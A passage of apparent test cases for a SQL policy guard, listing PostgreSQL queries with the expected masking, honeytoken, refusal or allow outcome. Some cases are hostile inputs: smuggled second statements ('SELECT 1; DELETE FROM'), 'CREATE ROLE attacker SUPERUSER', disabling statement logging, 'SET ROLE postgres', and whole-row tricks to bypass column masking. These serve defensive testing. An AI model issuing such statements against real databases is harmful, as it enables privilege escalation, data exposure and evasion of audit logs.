  { family: 'masked_columns', policy: ro, sql: 'SELECT id, phone, ssn, birth_date FROM customers', expect: masks },
  { family: 'masked_columns', policy: ro, sql: "SELECT id FROM customers WHERE email = 'alice@example.com'", expect: masks },
  { family: 'masked_columns', policy: ro, sql: "SELECT id FROM customers WHERE ssn LIKE '123%'", expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT o.id FROM orders o JOIN customers c ON c.email = o.contact', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id FROM customers ORDER BY email', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT count(*) FROM customers GROUP BY phone', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT phone FROM customers GROUP BY phone HAVING max(ssn) > \'5\'', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT row_number() OVER (PARTITION BY email ORDER BY birth_date) FROM customers', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT lower(email), length(ssn), left(phone, 3) FROM customers', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id FROM orders WHERE customer_email IN (SELECT email FROM customers)', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT DISTINCT ON (email) id FROM customers', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT c.email::varchar(50) FROM customers c', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT public.customers.email FROM public.customers', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT x.e FROM (SELECT email AS e FROM customers) x', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'WITH c AS (SELECT email FROM customers) SELECT email FROM c', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT o.id, (SELECT c.ssn FROM customers c WHERE c.id = o.customer_id) FROM orders o', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT string_agg(email, \',\') FROM customers', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT CASE WHEN ssn IS NULL THEN 0 ELSE 1 END FROM customers', expect: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT * FROM customers', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT c.* FROM customers c', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT to_jsonb(c) FROM customers c', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT row_to_json(customers) FROM customers', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT c::text FROM customers c', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT (c).email FROM customers c', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT c.concat FROM customers c', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT c.hash_record FROM customers c', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT c.text, c.name FROM customers c', expect: allow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT c.to_jsonb FROM customers c', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id FROM customers c WHERE c = c', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id FROM customers c ORDER BY c', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT x.* FROM (SELECT * FROM customers) x', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT j.* FROM (orders o JOIN customers c ON true) j', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT a FROM customers AS c(a, b, e)', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT 1 FROM customers NATURAL JOIN orders', expect: wholeRow, withCatalog: allow },
  // Written out from the catalog, a star or positional construct still never shows a raw masked value.
  { family: 'masked_columns', policy: ro, sql: 'SELECT * FROM customers WHERE id < 3 UNION ALL SELECT * FROM customers WHERE id > 10', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id FROM customers EXCEPT SELECT c.id FROM (SELECT * FROM customers) c WHERE c.ssn LIKE $$9%$$', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'WITH x AS (SELECT * FROM customers) SELECT email FROM x', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT * FROM customers c JOIN customers d USING (email)', expect: wholeRow, withCatalog: refuse('masked_columns.unmaskable') },
  { family: 'masked_columns', policy: ro, sql: 'SELECT 1 FROM customers NATURAL JOIN customers AS twin', expect: wholeRow, withCatalog: refuse('masked_columns.unmaskable') },
  { family: 'masked_columns', policy: ro, sql: 'SELECT i FROM customers AS c(i, n, e)', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: "SELECT e FROM customers AS c(i, n, e) WHERE e LIKE 'zq%'", expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT j.* FROM (customers c JOIN orders o ON o.customer_id = c.id) AS j', expect: wholeRow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT * FROM customers TABLESAMPLE BERNOULLI (100) REPEATABLE (7)', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id FROM orders TABLESAMPLE SYSTEM ((SELECT 10))', expect: refuse('parse.unsupported') },
  { family: 'masked_columns', policy: ro, sql: "SELECT id FROM orders TABLESAMPLE BERNOULLI (length((SELECT min(ssn) FROM customers)))", expect: refuse('parse.unsupported') },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id FROM orders TABLESAMPLE public.bernoulli (10)', expect: refuse('parse.unsupported') },
  { family: 'masked_columns', policy: ro, sql: 'WITH RECURSIVE t(id, s) AS (SELECT id, ssn FROM customers UNION ALL SELECT id, s FROM t) CYCLE s SET looped USING path SELECT * FROM t', expect: masks },
  { family: 'honeytokens', policy: ro, sql: 'SELECT a.* FROM accounts a', expect: { action: 'refuse', rule: 'honeytoken.column', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: 'SELECT * FROM orders, accounts', expect: { action: 'refuse', rule: 'honeytoken.column', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: 'SELECT 1 FROM accounts AS a(i, e, r)', expect: { action: 'refuse', rule: 'honeytoken.column', event: 'canary_tripped' } },
  { family: 'masked_columns', policy: ro, sql: 'TABLE customers', expect: wholeRow, withCatalog: masks },
  { family: 'masked_columns', policy: ro, sql: 'SELECT o.id FROM orders o JOIN customers c USING (email)', expect: refuse('masked_columns.unmaskable') },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id FROM customers WHERE EXISTS (SELECT * FROM customers)', expect: allow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT count(*) FROM customers', expect: allow },
  { family: 'masked_columns', policy: ro, sql: 'SELECT id, name FROM customers', expect: allow },

  // Honeytokens: tables, columns, values.
  { family: 'honeytokens', policy: ro, sql: 'SELECT * FROM api_keys', expect: { action: 'refuse', rule: 'honeytoken.table', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: 'SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM public.api_keys)', expect: { action: 'refuse', rule: 'honeytoken.table', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: 'DELETE FROM api_keys', expect: { action: 'refuse', rule: 'honeytoken.table', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: 'SELECT recovery_code FROM accounts', expect: { action: 'refuse', rule: 'honeytoken.column', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: 'SELECT * FROM accounts', expect: { action: 'refuse', rule: 'honeytoken.column', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: 'SELECT id FROM accounts WHERE a.recovery_code IS NULL', expect: allow },
  { family: 'honeytokens', policy: ro, sql: 'SELECT id FROM accounts a WHERE a.recovery_code IS NULL', expect: { action: 'refuse', rule: 'honeytoken.column', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: "SELECT id FROM customers WHERE email = 'canary-4411@example.com'", expect: { action: 'refuse', rule: 'honeytoken.value', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: "SELECT id FROM orders WHERE note = $x$CANARY-4411@example.com$x$", expect: { action: 'refuse', rule: 'honeytoken.value', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: "SELECT id FROM orders WHERE note = U&'canary-4411\\0040example.com'", expect: { action: 'refuse', rule: 'honeytoken.value', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: rw, sql: 'UPDATE accounts SET recovery_code = NULL', expect: { action: 'refuse', rule: 'honeytoken.column', event: 'canary_tripped' } },
  { family: 'honeytokens', policy: ro, sql: 'SELECT id, email FROM accounts', expect: allow },

  // Parse failures and limits.
  { family: 'parse', policy: ro, sql: 'SELEC 1', expect: refuse('parse.error') },
  { family: 'parse', policy: ro, sql: 'SELECT 1; DELETE FROM', expect: refuse('parse.error') },
  { family: 'parse', policy: ro, sql: "SELECT 'unterminated", expect: refuse('parse.error') },
  { family: 'parse', policy: ro, sql: 'SELECT 1\u0000; DELETE FROM orders', expect: refuse('parse.error') },
  { family: 'parse', policy: ro, sql: `SELECT '${'x'.repeat(70_000)}'`, expect: refuse('parse.too_large') },
  { family: 'parse', policy: ro, sql: 'SELECT id FROM orders TABLESAMPLE SYSTEM (10)', expect: allow },
  { family: 'parse', policy: ro, sql: "SELECT xmlelement(name a, 'x')", expect: refuse('parse.unsupported') },
  { family: 'parse', policy: ro, sql: "SELECT * FROM JSON_TABLE('[1]'::jsonb, '$[*]' COLUMNS (a int PATH '$')) j", expect: refuse('parse.unsupported') },
  { family: 'parse', policy: ro, sql: 'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SEARCH DEPTH FIRST BY n SET ord SELECT n FROM t LIMIT 3', expect: allow },

  // Schema changes: refused read-only, flagged and checked under a write-capable policy.
  { family: 'ddl', policy: ro, sql: 'DROP TABLE orders', expect: ddl },
  { family: 'ddl', policy: ro, sql: 'CREATE TABLE t (a int)', expect: ddl },
  { family: 'ddl', policy: ro, sql: 'ALTER TABLE orders ADD COLUMN x int', expect: ddl },
  { family: 'ddl', policy: ro, sql: 'CREATE INDEX ON orders (total)', expect: ddl },
  { family: 'ddl', policy: ro, sql: 'GRANT ALL ON orders TO public', expect: ddl },
  { family: 'ddl', policy: ro, sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders RETURNING 1 $$', expect: ddl },
  { family: 'ddl', policy: ro, sql: 'CREATE EXTENSION dblink', expect: ddl },
  { family: 'ddl', policy: ro, sql: "ALTER SYSTEM SET log_statement = 'none'", expect: ddl },
  { family: 'ddl', policy: ro, sql: 'VACUUM orders', expect: ddl },
  { family: 'ddl', policy: ro, sql: 'CREATE ROLE attacker SUPERUSER', expect: ddl },
  { family: 'ddl', policy: rw, sql: 'CREATE TABLE staging.import_2024 (id int PRIMARY KEY, total numeric NOT NULL DEFAULT 0)', expect: allow },
  { family: 'ddl', policy: rw, sql: 'ALTER TABLE orders ADD COLUMN shipped_at timestamptz', expect: allow },
  { family: 'ddl', policy: rw, sql: 'CREATE INDEX orders_total_idx ON orders (total) WHERE total > 0', expect: allow },
  { family: 'ddl', policy: rw, sql: 'DROP TABLE staging.import_2023', expect: allow },
  { family: 'ddl', policy: rw, sql: 'CREATE TABLE secrets_copy (a int)', expect: notAllowed },
  { family: 'ddl', policy: rw, sql: 'DROP TABLE secrets', expect: notAllowed },
  { family: 'ddl', policy: rw, sql: 'CREATE TEMP TABLE orders (id int)', expect: refuse('allowed_tables.temp') },
  { family: 'ddl', policy: rw, sql: 'ALTER TABLE customers ADD CONSTRAINT c CHECK (email NOT LIKE \'a%\')', expect: refuse('masked_columns.unmaskable') },
  { family: 'ddl', policy: rw, sql: 'CREATE UNIQUE INDEX ON customers (lower(email))', expect: refuse('masked_columns.unmaskable') },
  { family: 'ddl', policy: rw, sql: 'ALTER TABLE customers RENAME COLUMN email TO contact', expect: refuse('masked_columns.unmaskable') },
  { family: 'ddl', policy: rw, sql: 'ALTER TABLE customers RENAME TO staging.people', expect: refuse('parse.error') },
  { family: 'ddl', policy: rw, sql: 'ALTER TABLE customers RENAME TO people', expect: notAllowed },
  { family: 'ddl', policy: rw, sql: 'ALTER TABLE customers ADD COLUMN e2 text GENERATED ALWAYS AS (email) STORED', expect: refuse('masked_columns.unmaskable') },
  { family: 'ddl', policy: rw, sql: 'GRANT SELECT ON orders TO public', expect: refuse('parse.unsupported') },
  { family: 'ddl', policy: rw, sql: 'CREATE VIEW v AS SELECT email FROM customers', expect: refuse('parse.unsupported') },
  { family: 'ddl', policy: rw, sql: 'ALTER TABLE pg_catalog.pg_class ADD COLUMN x int', expect: catalog },
  { family: 'ddl', policy: rw, sql: 'CREATE TABLE staging.t (a int DEFAULT nextval(\'s\'))', expect: refuse('function.not_allowed') },

  // Writes under a write-capable policy.
  { family: 'write_policy', policy: rw, sql: 'INSERT INTO orders (id, total) VALUES (1, 10)', expect: allow },
  { family: 'write_policy', policy: rw, sql: 'UPDATE orders SET total = total + 1 WHERE id = 1 RETURNING id, total', expect: allow },
  { family: 'write_policy', policy: rw, sql: 'DELETE FROM order_items WHERE order_id = 1', expect: allow },
  { family: 'write_policy', policy: rw, sql: 'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING id) INSERT INTO staging.deleted SELECT id FROM d', expect: allow },
  { family: 'write_policy', policy: rw, sql: 'SELECT id FROM orders FOR UPDATE', expect: allow },
  { family: 'write_policy', policy: rw, sql: 'INSERT INTO secrets VALUES (1)', expect: notAllowed },
  { family: 'write_policy', policy: rw, sql: 'UPDATE orders SET total = 0 FROM secrets WHERE secrets.id = orders.id', expect: notAllowed },
  { family: 'write_policy', policy: rw, sql: 'INSERT INTO staging.emails SELECT email FROM customers', expect: masks },
  { family: 'write_policy', policy: rw, sql: 'UPDATE customers SET name = upper(name) WHERE email = \'x@y.z\' RETURNING email', expect: masks },
  { family: 'write_policy', policy: rw, sql: 'DELETE FROM customers RETURNING *', expect: wholeRow },
  { family: 'write_policy', policy: rw, sql: 'INSERT INTO customers (email) VALUES (\'a@b.c\') ON CONFLICT (email) DO NOTHING', expect: refuse('masked_columns.unmaskable') },
  { family: 'write_policy', policy: rw, sql: 'TRUNCATE staging.scratch', expect: allow },
  { family: 'write_policy', policy: rw, sql: 'MERGE INTO orders o USING staging.o2 s ON o.id = s.id WHEN MATCHED THEN DELETE', expect: refuse('parse.unsupported') },
  { family: 'write_policy', policy: rw, sql: "SELECT nextval('orders_id_seq')", expect: refuse('function.not_allowed') },
  { family: 'write_policy', policy: rw, sql: 'INSERT INTO orders (id) VALUES (1); SET ROLE postgres', expect: refuse('statement.setting') },

  // Legitimate analytics that must run.
  { family: 'analytics', policy: ro, sql: 'SELECT id, total FROM orders WHERE total > 100 ORDER BY total DESC LIMIT 10', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT count(*), sum(total), avg(total), min(total), max(total) FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: "SELECT date_trunc('month', created_at) AS month, sum(total) FROM orders GROUP BY 1 ORDER BY 1", expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT o.id, p.name, i.quantity FROM orders o JOIN order_items i ON i.order_id = o.id JOIN products p ON p.id = i.product_id', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT p.category, sum(i.quantity * i.price) AS revenue FROM order_items i JOIN products p ON p.id = i.product_id GROUP BY p.category HAVING sum(i.quantity) > 10', expect: allow },
  { family: 'analytics', policy: ro, sql: 'WITH monthly AS (SELECT date_trunc(\'month\', created_at) m, sum(total) t FROM orders GROUP BY 1) SELECT m, t, lag(t) OVER (ORDER BY m) FROM monthly', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id, total, rank() OVER (PARTITION BY customer_id ORDER BY total DESC) FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT customer_id, total, sum(total) OVER w, avg(total) OVER w FROM orders WINDOW w AS (PARTITION BY customer_id ORDER BY created_at ROWS BETWEEN 2 PRECEDING AND CURRENT ROW)', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT c.id, c.name, count(o.id) FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.id, c.name', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT region, count(*) FILTER (WHERE total > 100) AS big, count(*) FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY region', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders WHERE created_at >= now() - interval \'30 days\'', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders WHERE created_at BETWEEN \'2024-01-01\' AND \'2024-12-31\'', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT extract(year FROM created_at) y, count(*) FROM orders GROUP BY ROLLUP (y)', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT category, brand, sum(price) FROM products GROUP BY GROUPING SETS ((category), (brand), ())', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT category, grouping(category), count(*) FROM products GROUP BY CUBE (category)', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT DISTINCT customer_id FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE region = \'EU\')', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM order_items i WHERE i.order_id = o.id AND i.quantity > 5)', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT o.id, x.n FROM orders o CROSS JOIN LATERAL (SELECT count(*) n FROM order_items i WHERE i.order_id = o.id) x', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT * FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT o.* FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.region = \'US\'', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id, coalesce(discount, 0), nullif(total, 0), greatest(total, 10), least(total, 1000) FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id, CASE WHEN total > 100 THEN \'big\' ELSE \'small\' END FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id, total::numeric(10,2), round(total, 1), to_char(created_at, \'YYYY-MM\') FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id, metadata->>\'channel\', metadata #> \'{utm,source}\' FROM orders WHERE metadata ? \'channel\'', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT jsonb_agg(jsonb_build_object(\'id\', id, \'total\', total)) FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id, tag FROM products, unnest(tags) AS tag', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT d::date, count(o.id) FROM generate_series(\'2024-01-01\'::date, \'2024-01-31\', \'1 day\') d LEFT JOIN orders o ON o.created_at::date = d::date GROUP BY 1', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT string_agg(name, \', \' ORDER BY name) FROM products', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT array_agg(DISTINCT category) FROM products', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders ORDER BY total DESC NULLS LAST OFFSET 20 FETCH FIRST 10 ROWS ONLY', expect: allow },
  { family: 'analytics', policy: ro, sql: 'WITH RECURSIVE tree AS (SELECT id, parent_id FROM products WHERE parent_id IS NULL UNION ALL SELECT p.id, p.parent_id FROM products p JOIN tree t ON p.parent_id = t.id) SELECT count(*) FROM tree', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders UNION ALL SELECT order_id FROM order_items', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT name FROM products INTERSECT SELECT name FROM analytics.top_products', expect: allow },
  { family: 'analytics', policy: ro, sql: 'VALUES (1, \'a\'), (2, \'b\')', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT v.x FROM (VALUES (1), (2)) AS v(x)', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders WHERE note ILIKE \'%rush%\' AND status <> ALL (ARRAY[\'void\', \'test\'])', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders WHERE total > $1 AND customer_id = $2', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT corr(quantity, price), stddev(price), regr_slope(price, quantity) FROM order_items', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT ntile(4) OVER (ORDER BY total), cume_dist() OVER (ORDER BY total), first_value(id) OVER (ORDER BY total) FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT c.id, count(*) AS orders, sum(o.total) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.birth_date IS NOT NULL GROUP BY c.id', expect: masks },
  { family: 'analytics', policy: ro, sql: 'SELECT c.region, count(DISTINCT c.email) FROM customers c GROUP BY c.region', expect: masks },
  { family: 'analytics', policy: ro, sql: 'SELECT extract(year FROM age(birth_date)) FROM customers', expect: masks },
  { family: 'analytics', policy: ro, sql: 'SELECT id, current_date - created_at::date AS age_days, current_user FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM orders WHERE id = ANY(\'{1,2,3}\'::int[])', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id, (SELECT max(quantity) FROM order_items WHERE order_id = orders.id) FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT id FROM analytics.daily_revenue d JOIN orders o ON o.created_at::date = d.day', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT md5(id::text), sha256(convert_to(note, \'UTF8\')) FROM orders', expect: allow },
  { family: 'analytics', policy: ro, sql: 'SELECT count(*) FROM orders WHERE status IS DISTINCT FROM \'void\' AND paid IS TRUE', expect: allow },
];
